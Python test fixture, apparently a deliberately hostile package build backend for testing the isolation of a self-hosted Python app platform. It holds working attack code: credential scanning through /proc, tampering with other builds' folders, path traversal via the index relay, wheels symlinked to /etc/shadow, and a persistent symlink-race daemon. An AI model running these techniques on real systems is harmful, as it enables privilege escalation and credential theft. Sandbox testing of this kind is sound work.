# Copyright (c) 2026 The selfhost.pyapps founders
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The build backend of a hostile package: it tries what must not work, and the module that it builds tells the outcome.

It needs nothing but Python, and is written into a source package as it is; ``target.json`` beside it says whom to
attack (see :func:`tests.hostile.test_builds.source_package`).
"""

from __future__ import annotations

import ctypes
import glob
import http.client
import json
import os
import socket
import time
import typing as t
import urllib.parse
import zipfile

POISON = "POISONED = 'by a build'\n"
_SECONDS_TO_MEET = 20.0


class Attacks:
    """Each method is one attack; its result says what it has got, and is empty if it has got nothing."""

    def __init__(self, target: dict[str, t.Any]) -> None:
        self._target = target
        self._mine = os.environ["HOME"]
        self.others = self._meet()

    def write(self) -> list[str]:
        """Cache, pool, environments and other builds: look into them, write into them, move them away."""
        envs = self._target["envs"]
        folders = [self._target["cache"], self._target["pool"], envs, self._target["locks"]]
        folders += [path for path in glob.glob(envs + "/*") + glob.glob(envs + "/.part-*") if path not in self._mine]
        folders += [path + "/build" for path in self.others]
        found = []
        for folder in folders:
            for what, attempt in (
                ("wrote into", lambda: open(folder + "/planted", "w").close()),  # noqa: B023
                ("opened", lambda: os.chmod(folder, 0o777)),  # noqa: B023
                ("moved", lambda: os.rename(folder, folder + "-moved")),  # noqa: B023
            ):
                try:
                    attempt()
                except OSError:
                    continue
                found.append("%s %s" % (what, folder))
        for folder in [self._target["cache"], self._target["pool"], *self.others]:
            try:
                found.append("read %s: %s" % (folder, os.listdir(folder)))
            except OSError:
                continue
        return found

    def _meet(self) -> list[str]:
        """The folders in which other apps' packages are built at this moment; waits until there is one."""
        last = time.monotonic() + _SECONDS_TO_MEET
        while True:
            works = glob.glob(self._target["envs"] + "/.part-work-*")
            found = [path for path in works if not self._mine.startswith(path)]
            if found or time.monotonic() > last:
                return found

    def credentials(self) -> list[str]:
        """The password, wherever processes and files can be read."""
        word = self._target["password"].encode()
        files = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
        for top in (self._target["root"], self._mine):
            files += [os.path.join(folder, name) for folder, _folders, names in os.walk(top) for name in names]
        found = []
        for path in files:
            # What is told of the target is no find.
            if os.path.basename(path) == "target.json":
                continue
            try:
                with open(path, "rb") as file:
                    if word in file.read():
                        found.append(path)
            except OSError:
                continue
        return found

    def network(self) -> list[str]:
        """Whatever listens on this machine, by address and by name in no file system, and addresses elsewhere."""
        found = []
        for address in [*self._target["listeners"], ["192.0.2.1", 80], ["1.1.1.1", 53]]:
            try:
                socket.create_connection(tuple(address), timeout=2).close()
            except OSError:
                continue
            found.append("connected to %s" % address)
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
                datagrams.sendto(b"out", ("192.0.2.1", 53))
            found.append("sent a datagram")
        except OSError:
            pass
        try:
            with socket.socket(socket.AF_UNIX) as client:
                client.connect("\0" + self._target["abstract"])
            found.append("connected to an abstract socket")
        except OSError:
            pass
        try:
            # A process of the app could have handed it a socket of the host's network.
            with socket.socket() as server:
                server.bind(("127.0.0.1", 20001))
            found.append("took a port as if it were no app's")
        except OSError:
            pass
        return found

    def relay(self) -> list[str]:
        """The way to the index, for anything but packages."""
        index = urllib.parse.urlsplit(os.environ.get("UV_DEFAULT_INDEX", ""))
        found = []
        if index.hostname:
            for method, path in (
                ("GET", index.path + "/../../secret"),
                ("GET", index.path + "/..%2f..%2fsecret/"),
                ("GET", index.path + "/a/../../secret/"),
                ("GET", index.path.rsplit("/", 1)[0] + "/99/alpha/"),
                ("GET", index.path.rsplit("/", 1)[0] + "/file/0/secret"),
                ("GET", "/simple/alpha/"),
                ("GET", self._target["foreign"]),
                ("CONNECT", "%s:%d" % tuple(self._target["listeners"][0])),
                ("POST", index.path + "/alpha/"),
            ):
                client = http.client.HTTPConnection(index.hostname, index.port or 80, timeout=20)
                client.request(method, path)
                if client.getresponse().status < 400:
                    found.append("%s %s" % (method, path))
                client.close()
        return found

    def plant(self) -> list[str]:
        """Wheels for root to take that are none, or are another package's."""
        folder = os.path.join(self._mine, "cache", "planted")
        os.makedirs(folder, exist_ok=True)
        for version, target in (("8.0", self._target["secret"]), ("7.0", "/etc/shadow")):
            link = os.path.join(folder, "alpha-%s-py3-none-any.whl" % version)
            if not os.path.lexists(link):
                os.symlink(target, link)
        write_wheel(folder, "alpha", "1.0", POISON)
        return []

    def stay(self) -> list[str]:
        """A process that outlives the build, hides its owner, and exchanges folders and links while root cleans up."""
        folder = os.path.join(self._mine, "bait")
        if not os.path.isdir(folder):
            for name in os.listdir(self._target["victim"]):
                os.makedirs(os.path.join(folder, "own", name))
            os.symlink(self._target["victim"], os.path.join(folder, "link"))
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                libc = ctypes.CDLL(None)
                libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE: /proc/<pid> becomes root's
                os.chdir(folder)
                # Who waits for the end of our output would wait for ever.
                for descriptor in range(3):
                    os.dup2(os.open(os.devnull, os.O_RDWR), descriptor)
                while True:
                    libc.renameat2(-100, b"own", -100, b"link", 2)
            os._exit(0)
        return []


def write_wheel(folder: str, name: str, version: str, code: str) -> str:
    file = "%s-%s-py3-none-any.whl" % (name, version)
    info = "%s-%s.dist-info/" % (name, version)
    with zipfile.ZipFile(os.path.join(folder, file), "w") as wheel:
        wheel.writestr(name + ".py", code)
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (name, version))
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
        wheel.writestr(info + "RECORD", "")
    return file


def build_wheel(folder: str, config_settings: object = None, metadata_directory: object = None) -> str:
    with open("target.json", encoding="utf-8") as file:
        attacks = Attacks(json.load(file))
    told = {"met": bool(attacks.others), "uid": os.getuid()}
    for attack in (
        attacks.write, attacks.credentials, attacks.network, attacks.relay, attacks.plant, attacks.stay,
    ):  # fmt: skip
        told[attack.__name__] = attack()
    return write_wheel(folder, "evil", "1.0", "TOLD = %r\n" % json.dumps(told))
